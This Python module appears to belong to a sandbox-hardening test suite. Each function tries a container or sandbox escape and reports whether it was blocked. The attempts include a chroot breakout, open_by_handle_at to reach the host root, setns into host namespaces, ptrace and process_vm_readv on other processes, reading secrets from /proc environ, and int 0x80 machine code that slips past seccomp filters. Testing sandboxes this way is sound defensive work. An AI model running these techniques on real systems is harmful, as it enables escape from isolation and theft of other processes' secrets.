"""Attacks by system calls: namespaces, mounts, other processes, and parts of the kernel that no workload of ours needs."""
import ctypes
import mmap
import os
import struct
import tempfile

from frame import MACHINE, NEW, P, Blocked, any_of, attack, call, marked, need, processes, read

MS_BIND, MS_REC, MS_PRIVATE, MNT_DETACH = 4096, 16384, 1 << 18, 2
SIGCHLD = 17


# ---- mounts and roots
@attack
def mount_tmpfs():
    target = tempfile.mkdtemp().encode()
    call("mount", b"none", target, b"tmpfs", 0, None)
    call("umount2", target, MNT_DETACH)
    return "mounted a tmpfs"


@attack
def mount_by_new_calls():
    fs = call("fsopen", b"tmpfs", 0)
    call("fsconfig", fs, 6, None, None, 0)
    call("fsmount", fs, 0, 0)
    return "made a mount by fsopen"


@attack
def copy_of_the_tree():
    call("open_tree", -100, b"/", 1 | 0x8000)  # a detached, recursive copy of all mounts
    return "copied the tree of mounts"


@attack
def bind_of_root():
    target = tempfile.mkdtemp().encode()
    call("mount", b"/", target, None, MS_BIND | MS_REC, None)
    seen = os.listdir(target)
    call("umount2", target, MNT_DETACH)
    return "root bound elsewhere, %d entries" % len(seen)


@attack
def pivot_root():
    try:
        call("unshare", NEW["mnt"])
        call("mount", None, b"/", None, MS_REC | MS_PRIVATE, None)
    except OSError as fault:
        first = str(fault)
        try:
            call("pivot_root", b"/", b"/")
        except OSError as second:
            raise Blocked("%s; %s" % (first, second))
        return "pivoted in place"
    root = tempfile.mkdtemp()
    call("mount", b"none", root.encode(), b"tmpfs", 0, None)
    os.mkdir(root + "/old")
    call("pivot_root", root.encode(), (root + "/old").encode())
    os.chdir("/")
    return "root is now %s" % os.listdir("/")


@attack
def chroot_escape():
    """The classic: a second chroot while the working directory is outside of it, then up."""
    jail = tempfile.mkdtemp()
    os.mkdir(jail + "/inner")
    outside = os.stat("/").st_ino
    call("chroot", jail.encode())
    os.chdir("/")
    if os.path.exists("/proc/self"):
        raise Blocked("the chroot did nothing")
    call("chroot", b"/inner")
    for _ in range(64):
        os.chdir("..")
    call("chroot", b".")
    if os.stat("/").st_ino != outside:
        raise Blocked("still in the jail")
    return "out of a chroot by chroot"


@attack
def open_by_handle():
    """The root of the file system below the workspace, by its number alone (inode 2)."""
    mount = os.open(need("workspace"), os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("=IiIII", 8, 1, 2, 0, 0))
    fd = call("open_by_handle_at", mount, handle, os.O_RDONLY | os.O_DIRECTORY)
    return "the machine's root holds %s" % sorted(os.listdir(fd))[:8]


# ---- namespaces
@attack
def new_user_namespace():
    call("unshare", NEW["user"])
    return "made a user namespace"


@attack
def new_user_namespace_by_clone():
    pid = call("clone", NEW["user"] | NEW["net"] | SIGCHLD, None, None, None, None)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "cloned into a user and network namespace"


@attack
def new_user_namespace_by_clone3():
    words = ctypes.create_string_buffer(struct.pack("=8Q", NEW["user"], 0, 0, 0, SIGCHLD, 0, 0, 0))
    pid = call("clone3", words, 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "cloned into a user namespace by clone3, whose flags no filter sees"


@attack
def new_other_namespaces():
    return any_of((kind, lambda flag=flag: call("unshare", flag)) for kind, flag in NEW.items() if kind != "user")


@attack
def unshare_by_32_bit_call():
    """The same call through the entry for 32-bit programs, where a filter that looks at numbers only sees another call."""
    if MACHINE != "x86_64":
        raise Blocked("no such entry on " + MACHINE)
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("53b83601000089fbcd805bc3"))  # eax = 310, ebx = edi, int 0x80
    entry = ctypes.addressof(ctypes.c_char.from_buffer(code))
    done = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(entry)(NEW["uts"])
    if done != 0:
        raise OSError(-done, "int 0x80: unshare")
    return "made a UTS namespace by int 0x80"


@attack
def enter_the_machines_namespace():
    def enter(pid):
        call("setns", os.open("/proc/%d/ns/mnt" % pid, os.O_RDONLY), 0)
        return "in its mounts, read " + read(need("witness")).decode()
    return any_of(("process %d" % pid, lambda pid=pid: enter(pid)) for pid in marked() + [1])


@attack
def leave_the_cgroup():
    return any_of((path, lambda path=path: _move_to(path)) for path in
                  ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"))


def _move_to(path):
    fd = os.open(path, os.O_WRONLY)
    os.write(fd, b"0")
    return "moved to another control group"


# ---- other processes
@attack
def trace_a_foreign_process():
    seen = marked()
    if not seen and "own_init" not in P:
        raise Blocked("the machine's process is not in sight")
    pid = seen[0] if seen else 1
    call("ptrace", 16, pid, 0, 0)
    os.waitpid(pid, 0x40000000)
    call("ptrace", 17, pid, 0, 0)
    return "traced %d" % pid


@attack
def read_a_foreign_process():
    """A secret in the environment of a process of the machine."""
    for pid in processes():
        try:
            if need("secret").encode() in read("/proc/%d/environ" % pid, 65536):
                return "read the secret of %d" % pid
        except OSError:
            pass
    raise Blocked("%d processes in sight, none with it" % len(processes()))


@attack
def read_foreign_memory():
    seen = marked()
    if not seen and "own_init" not in P:
        raise Blocked("the machine's process is not in sight")
    pid = seen[0] if seen else 1
    start = next((int(line.split("-")[0], 16) for line in read("/proc/%d/maps" % pid, 1 << 20).decode().split("\n") if "[stack]" in line), 0x400000)
    data = ctypes.create_string_buffer(64)
    here, there = (ctypes.c_size_t * 2)(ctypes.addressof(data), 64), (ctypes.c_size_t * 2)(start, 64)
    got = call("process_vm_readv", pid, here, 1, there, 1, 0)
    return "%d bytes of the memory of %d" % (got, pid)


@attack
def signal_a_foreign_process():
    seen = marked()
    if not seen:
        raise Blocked("the machine's process is not in sight")
    os.kill(seen[0], 0)
    return "may send signals to %d" % seen[0]


@attack
def highest_priority():
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    return "goes before everything else"


# ---- the kernel
@attack
def keyring():
    call("add_key", b"user", b"muster-attack", b"x", 1, -2)
    return "added a key to its ring"


@attack
def bpf_map():
    attributes = ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1) + bytes(112))
    call("bpf", 0, attributes, 128)
    return "made a BPF map"


@attack
def perf_event():
    attributes = ctypes.create_string_buffer(struct.pack("=IIQQQQQ", 1, 128, 0, 0, 0, 0, 1 | 1 << 5 | 1 << 6) + bytes(80))
    call("perf_event_open", attributes, 0, -1, -1, 0)
    return "opened a performance counter"


@attack
def io_uring():
    call("io_uring_setup", 4, ctypes.create_string_buffer(120))
    return "made a ring"


@attack
def userfaultfd():
    call("userfaultfd", 1)
    return "handles its own page faults"


@attack
def load_module():
    return any_of((("init_module", lambda: call("init_module", b"\x7fELF", 4, b"")), ("finit_module", lambda: call("finit_module", os.open("/proc/self/exe", os.O_RDONLY), b"", 0))))


@attack
def kexec():
    call("kexec_load", 0, 0, None, 0)
    return "may replace the kernel"


@attack
def reboot():
    """With wrong magic numbers: who may not is told so before they are looked at, who may is told that they are wrong."""
    try:
        call("reboot", 0, 0, 0, None)
    except OSError as fault:
        if fault.errno != 22:
            raise
    return "only the magic numbers were missing"


@attack
def set_the_clock():
    call("settimeofday", None, None)
    return "may set the clock"


@attack
def set_the_hostname():
    name = os.uname().nodename.encode()
    call("sethostname", name, len(name))
    return "set the host's name"


@attack
def kernel_messages():
    data = ctypes.create_string_buffer(4096)
    return "%d bytes of the kernel's messages" % call("syslog", 3, data, 4096)


@attack
def kernel_addresses():
    addresses = [line.split()[0] for line in read("/proc/kallsyms", 8192).decode().split("\n")[:50] if line]
    if not any(int(address, 16) for address in addresses):
        raise Blocked("addresses are zeroes")
    return "the kernel begins at " + addresses[0]
